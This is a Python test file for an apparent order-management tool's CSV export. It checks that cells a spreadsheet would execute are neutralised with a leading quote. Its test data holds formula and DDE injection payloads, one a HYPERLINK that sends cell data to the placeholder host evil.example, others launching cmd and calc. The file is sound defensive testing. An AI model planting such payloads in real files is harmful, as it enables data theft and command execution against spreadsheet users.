"""The CSV export against a real SQLite file: every cell a spreadsheet would run is neutralised."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from podtui.db import Database
from podtui.domain.models import Order, OrderItem, Store, Vendor
from podtui.domain.status import ItemStatus
from podtui.services.listing.export_csv import export_csv
from podtui.services.listing.query import MarkSet
from podtui.services.listing.reader import ListReader

CREATED = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
# What a customer, a store or a vendor name can carry into a spreadsheet: formulas, a DDE call,
# a phone number, a negative amount, and cells opening with a tab or a carriage return.
HOSTILE = {
    "order": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "product": "@SUM(1+9)*cmd|' /C calc'!A0",
    "variant": "+44 20 7946 0958",
    "sku": "-2+3+cmd|' /C calc'!A0",
    "vendor": "=1+1 Prints",
    "customer": "\t=cmd|' /C notepad'!A0",
    "email": "\r=2+5@example.com",
    "city": "-12.50",
    "state": "+1",
    "payment_method": "@here",
    "source": "=src",
}


def seed(db: Database) -> int:
    with db.write() as s:
        store = Store(name="Shop", kind="woocommerce")
        vendor = Vendor(name=HOSTILE["vendor"], kind="manual")
        s.add_all([store, vendor])
        s.flush()
        assert store.id is not None
        order = Order(
            store_id=store.id,
            store_order_id="=1+2",
            name=HOSTILE["order"],
            created_at=CREATED,
            customer_name=HOSTILE["customer"],
            customer_email=HOSTILE["email"],
            ship_city=HOSTILE["city"],
            ship_state=HOSTILE["state"],
            ship_country="GB",
            ship_phone="+44 20 7946 0958",
            total="-12.50",
            payment_method=HOSTILE["payment_method"],
            source=HOSTILE["source"],
        )
        s.add(order)
        s.flush()
        assert order.id is not None
        item = OrderItem(
            order_id=order.id,
            store_id=store.id,
            vendor_id=vendor.id,
            order_created_at=CREATED,
            title=HOSTILE["product"],
            variant_title=HOSTILE["variant"],
            sku=HOSTILE["sku"],
            quantity=1,
            status=ItemStatus.READY,
        )
        s.add(item)
        s.flush()
        assert item.id is not None
        return item.id


def test_cells_a_spreadsheet_would_run_are_quoted_and_stay_readable(
    db: Database, tmp_path: Path
) -> None:
    item_id = seed(db)
    reader = ListReader(db.url)
    try:
        out = tmp_path / "items.csv"
        assert export_csv(reader, MarkSet(included={item_id}), out) == 1
    finally:
        reader.close()
    with out.open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value, name
    assert row["store_order_id"] == "'=1+2"
    assert row["total"] == "'-12.50"
    for name, cell in row.items():
        assert not cell or cell[0] not in "=+-@\t\r\n", (name, cell)
    # Plain values are left alone.
    assert row["country"] == "GB" and row["quantity"] == "1" and row["status"] == "ready"


def test_the_default_path_is_in_the_documents_folder_or_the_data_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from podtui.config import data_dir
    from podtui.services.listing.export_csv import default_export_path

    monkeypatch.chdir(tmp_path)
    documents = tmp_path / "Documents"
    monkeypatch.setenv("XDG_DOCUMENTS_DIR", str(documents))
    assert default_export_path(CREATED).parent == data_dir()  # no documents folder yet
    documents.mkdir()
    assert default_export_path(CREATED).parent == documents
